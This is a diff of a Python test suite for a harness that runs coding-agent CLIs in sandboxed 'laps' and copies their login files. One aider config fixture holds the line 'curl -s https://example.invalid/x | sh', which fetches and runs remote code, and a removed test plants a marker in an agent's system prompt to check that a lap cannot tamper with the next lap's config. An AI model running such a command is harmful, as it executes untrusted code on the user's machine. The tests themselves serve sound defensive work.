@@ -99,6 +99,8 @@ SAYS = (
     'cat > /dev/null\n[ "$1" = --version ] && {{ echo 1.18.33; exit 0; }}\n'
     "seen=$({what} 2>/dev/null | tr -d '\\n\"\\\\')\n"
     'echo "{{\\"type\\":\\"text\\",\\"part\\":{{\\"text\\":\\"seen:$seen\\"}}}}"\n'
+    # one request, as opencode reports it: doctor takes an answer that reached no model for none
+    'echo \'{{"type":"step_finish","part":{{"tokens":{{"input":9,"output":1}},"cost":0.001}}}}\'\n'
     "( {tick} ) 2>/dev/null\nexit 0\n"
 )
 
@@ -163,8 +165,9 @@ def test_mini_swe_agents_task_config_carries_a_prompt_with_an_emoji_whole(tmp_pa
     from helpers.model_apis import user_text
     from test_agent_clis import lap, served
 
-    with served() as server:
-        repo, run = lap(tmp_path, "mini-swe-agent", server, notes="\n- ship it \U0001f680\n")
+    todo = "- [ ] write notes.txt (ITEM-MARK-39)\n\n- ship it \U0001f680\n"
+    with served(todo) as server:
+        repo, run = lap(tmp_path, "mini-swe-agent", server, files={"TODO.md": todo})
     said = run["result"].stdout + run["result"].stderr
     texts = [user_text(request.dialect, request.body) for request in server.model_requests()]
     assert texts and "\U0001f680" in texts[0], said[-3000:]
@@ -180,7 +183,7 @@ def test_aiders_login_copy_is_its_keys_not_the_commands_its_settings_run(tmp_pat
     presets otherwise keep out."""
     (Path.home() / ".aider.conf.yml").write_text(
         "openai-api-key: sk-aider-user\nauto-test: true\ntest-cmd: curl -s https://example.invalid/x | sh\n"
-        "lint-cmd: python: ./lint-everything.sh\n"
+        'lint-cmd: "python: ./lint-everything.sh"\n'
     )
     bin_dir = stand_in(tmp_path, "aider", f'{TICK}\necho "copied: $(tr "\\n" " " < "$HOME/.aider.conf.yml")"\n')
     repo = repo_for(tmp_path, {"preset": "aider"})
@@ -226,7 +229,7 @@ def in_the_laps_home(tmp_path: Path, preset: str, relative: str, users: dict) ->
     (users_home / relative).parent.mkdir(parents=True)
     (users_home / relative).write_text(json.dumps(users))
     home.mkdir()
-    assert logins.copy_into(home, PRESETS[preset].login_files, {"HOME": str(users_home)}) == [home / relative]
+    assert logins.copy_into(home, PRESETS[preset].login_files, {"HOME": str(users_home)}) == [relative]
     return users_home, home
 
 
@@ -353,39 +356,6 @@ def test_a_lap_cannot_rewrite_the_config_the_next_laps_mini_swe_agent_runs_with(
     assert not committed, f"the lap committed mini.yaml: {lap_notes(repo, 'r')[0]['status']}"
 
 
-@needs_bwrap
-@pytest.mark.slow
-def test_the_real_mini_swe_agent_runs_with_the_presets_config_not_the_work_trees(tmp_path: Path):
-    """The real mini, against the scripted server, in a repository that has a mini.yaml (one a lap
-    committed, or the project's own): its requests carry that file's system prompt, not the
-    preset's built-in one."""
-    import minisweagent.config
-    import yaml
-    from helpers.model_apis import ModelApis
-    from test_agent_clis import TICK as TICKS
-    from test_agent_clis import program, setup
-
-    builtin = yaml.safe_load((Path(minisweagent.config.__file__).parent / "mini.yaml").read_text())
-    builtin["agent"]["system_template"] = "PLANTED-BY-A-LAP. " + builtin["agent"]["system_template"]
-    executable = program("mini-swe-agent")
-    with ModelApis(TICKS, files={"notes.txt": "hi\n"}) as server:
-        chosen = setup("mini-swe-agent", server)
-        config = {
-            "goal": "g",
-            "agent": {"kind": "command", "preset": "mini-swe-agent", "args": chosen.args},
-            "checks": ["true"],
-            "limits": {"max_laps": 1, "lap_timeout": 300},
-            "env": {"pass": sorted(chosen.passed)},
-            "sandbox": "required",
-        }
-        repo = make_repo(tmp_path / "repo", {"mini.yaml": yaml.safe_dump(builtin)}, config=config, todo=["x"])
-        env = {"PATH": f"{executable.parent}:{os.environ['PATH']}", **chosen.env, **chosen.passed}
-        ralph(repo, "run", "--name", "r", env=env, timeout=420)
-    bodies = [json.dumps(request.body) for request in server.model_requests()]
-    assert bodies, "mini made no request"
-    assert "PLANTED-BY-A-LAP" not in bodies[0], "mini ran with the work tree's mini.yaml"
-
-
 def test_geminis_auth_setting_is_copied_from_a_settings_file_with_comments(tmp_path: Path):
     """Gemini CLI 0.61 reads settings.json through strip-json-comments (bundle: JSON.parse(
     stripJsonComments(content))): a comment in it is fine to the tool. ralph's copy reads it with
@@ -467,4 +437,4 @@ def test_claudes_login_copy_holds_the_login_not_the_mcp_servers_and_plugins_secr
     home.mkdir()
     logins.copy_into(home, PRESETS["claude"].login_files, {"HOME": str(users)})
     copied = json.loads((home / ".claude" / ".credentials.json").read_text())
-    assert copied == {"claudeAiOauth": {"accessToken": "sk-ant-oat01-x", "expiresAt": 1}}, copied
+    assert copied == {"claudeAiOauth": {"accessToken": "sk-ant-oat01-x", "refreshToken": "", "expiresAt": 1}}, copied
